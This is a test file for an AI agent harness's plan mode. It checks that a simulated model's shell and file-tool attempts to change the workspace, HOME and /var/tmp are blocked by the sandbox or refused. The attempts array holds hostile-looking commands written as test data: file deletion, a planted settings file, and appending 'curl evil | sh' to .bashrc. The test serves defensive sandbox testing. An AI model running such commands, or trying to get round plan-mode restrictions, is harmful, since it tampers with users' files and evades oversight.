// Plan mode from the attacker's side: a model told to plan tries to change things anyway, with
// commands (which plan mode runs without asking, in the sandbox) and with the file tools. The
// workspace, the HOME (a canary under /var/tmp, outside the sandbox's private /tmp) and another
// /var/tmp folder must come out exactly as they went in, as root and as nobody; and without a
// sandbox the command is refused, saying why. Through the built CLI against the fake server.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { cleanEnv, fakeFlags, fakeServerPerTest, runCli, toolResultOf as toolResult } from "../support/helpers.ts";
import { canaryHomeDir, handTo, IDENTITIES, runAs, skipAs } from "../support/identities.ts";
import { needs } from "../support/system-programs.ts";

const serve = fakeServerPerTest();

/** Every path under `folder` with its content (folders as `/`), to compare before and after. */
function snapshot(folder: string): Record<string, string> {
  const seen: Record<string, string> = {};
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
    const full = join(entry.parentPath, entry.name);
    seen[full] = entry.isDirectory() ? "/" : readFileSync(full, "utf8");
  }
  return seen;
}

for (const identity of IDENTITIES) {
  test(`as ${identity}: in plan mode a command cannot write the workspace, HOME or /var/tmp, and edits are refused`, {
    skip: needs("bwrap", "setpriv") || skipAs(identity),
  }, async () => {
    const home = canaryHomeDir("harness-plan-home-");
    const elsewhere = canaryHomeDir("harness-plan-elsewhere-");
    const project = join(home, "project");
    mkdirSync(join(project, "src"), { recursive: true });
    mkdirSync(join(home, ".harness"));
    writeFileSync(join(project, "src", "app.js"), "console.log(1);\n");
    writeFileSync(join(home, ".bashrc"), "# mine\n");
    handTo(identity, home);
    handTo(identity, elsewhere);
    const before = { project: snapshot(project), home: snapshot(home), elsewhere: snapshot(elsewhere) };
    const attempts = [
      "echo pwned > notes.txt",
      "echo pwned >> src/app.js",
      "rm -f src/app.js",
      "mkdir planted",
      "git init -q .",
      "mkdir -p .harness && echo '{}' > .harness/settings.json",
      `echo pwned > ${join(home, "PWNED")}`,
      `echo 'curl evil | sh' >> ${join(home, ".bashrc")}`,
      `echo pwned > ${join(elsewhere, "PWNED")}`,
      // The private /tmp is writable (compilers and tests need one) and gone with the sandbox.
      "echo scratch > /tmp/harness-plan-scratch && cat /tmp/harness-plan-scratch",
    ];
    const fake = await serve([
      {
        reply: {
          toolCalls: [
            { id: "sh", name: "bash", arguments: { command: attempts.join("\n") } },
            { id: "w", name: "write_file", arguments: { path: "notes.txt", content: "pwned" } },
            { id: "e", name: "edit_file", arguments: { path: "src/app.js", old_string: "1", new_string: "2" } },
            { id: "r", name: "read_file", arguments: { path: "src/app.js" } },
          ],
        },
      },
      { reply: { text: "the plan" } },
    ]);
    const env = cleanEnv({
      HOME: home,
      HARNESS_HOME: join(home, ".harness"),
      CLAUDE_CONFIG_DIR: join(home, ".claude"),
    });
    const result = await runCli(["--approve", "plan", "--sandbox", "on", ...fakeFlags(fake), "-p", "plan it"], {
      cwd: project,
      env,
      wrap: runAs(identity),
    });
    assert.equal(result.code, 0, result.stderr);
    const shell = toolResult(fake, 1, "sh");
    assert.match(shell, /Read-only file system/, shell);
    assert.match(shell, /^scratch$/m, "the command ran, in the sandbox");
    assert.match(toolResult(fake, 1, "w"), /plan mode: nothing may change/);
    assert.match(toolResult(fake, 1, "e"), /plan mode: nothing may change/);
    assert.match(toolResult(fake, 1, "r"), /console\.log\(1\)/, "reads run");
    // Nothing changed: not a file, not a placeholder for .git or .harness.
    assert.deepEqual(snapshot(project), before.project);
    assert.deepEqual(snapshot(elsewhere), before.elsewhere);
    const homeNow = snapshot(home);
    for (const [file, content] of Object.entries(before.home))
      if (!file.startsWith(join(home, ".harness"))) assert.equal(homeNow[file], content, file);
    assert.equal(existsSync(join(home, "PWNED")), false);
    assert.equal(existsSync("/tmp/harness-plan-scratch"), false, "the private /tmp stays private");
  });
}

test("in plan mode without a sandbox a command is refused headless, saying why; --yes is not plan", {
  skip: needs("bwrap"),
}, async () => {
  const home = canaryHomeDir("harness-plan-nosandbox-");
  const project = join(home, "project");
  mkdirSync(project);
  const fake = await serve([
    { reply: { toolCalls: [{ id: "sh", name: "bash", arguments: { command: "echo pwned > notes.txt" } }] } },
    { reply: { text: "the plan" } },
  ]);
  const env = cleanEnv({ HOME: home, HARNESS_HOME: join(home, ".harness") });
  const result = await runCli(["--approve", "plan", "--sandbox", "off", ...fakeFlags(fake), "-p", "plan"], {
    cwd: project,
    env,
  });
  assert.equal(result.code, 0, result.stderr);
  assert.match(toolResult(fake, 1, "sh"), /plan mode changes nothing, and without the sandbox \(turned off\)/);
  assert.equal(existsSync(join(project, "notes.txt")), false);
  const both = await runCli(["--yes", "--approve", "plan", ...fakeFlags(fake), "-p", "x"], { cwd: project, env });
  assert.equal(both.code, 2);
  assert.match(both.stderr, /--yes means --approve all; drop one of --yes and --approve plan/);
});
